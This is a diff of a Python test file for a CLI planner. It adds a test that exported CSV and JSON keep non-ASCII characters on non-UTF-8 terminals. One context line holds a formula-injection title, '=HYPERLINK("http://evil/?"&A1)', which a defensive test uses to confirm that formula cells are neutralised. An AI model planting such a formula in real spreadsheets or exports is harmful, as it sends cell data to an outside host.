@@ -188,3 +188,21 @@ def test_formula_cells_import_as_text_and_export_neutralised_and_round_trip(db, 
     assert _deals(fresh, home) == _deals(db, home)
     titles = [d["title"] for d in _deals(db, home)]
     assert '=HYPERLINK("http://evil/?"&A1)' in titles and "-2+3" in titles
+
+
+@pytest.mark.parametrize("encoding", ["latin-1", "ascii"])
+def test_machine_output_on_a_non_utf8_terminal_loses_nothing(encoding, home):
+    """`planner export > deals.csv` and `planner list --json | tool` in a legacy locale: the CSV is
+    UTF-8 by contract (SPEC §4) and JSON can escape, so no character may turn into '?'."""
+    db = make_database(home, "客户：上海贸易公司 🚀", "Café Müller — ½ price")
+    env = planner_env(home, PYTHONIOENCODING=encoding)
+    exported = run_cli("--db", str(db), "export", home=home, env=env)
+    assert exported.code == 0, exported.err
+    csv = home / "deals.csv"
+    csv.write_text(exported.out, encoding="utf-8")
+    fresh = home / "fresh.db"
+    assert planner(fresh, "import", str(csv), home=home).code == 0
+    titles = {d["title"] for d in _deals(db, home)}
+    assert {d["title"] for d in _deals(fresh, home)} == titles, "export to a non-UTF-8 stdout lost characters"
+    listed = run_cli("--db", str(db), "list", "--json", home=home, env=env)
+    assert listed.code == 0 and {d["title"] for d in json.loads(listed.out)} == titles
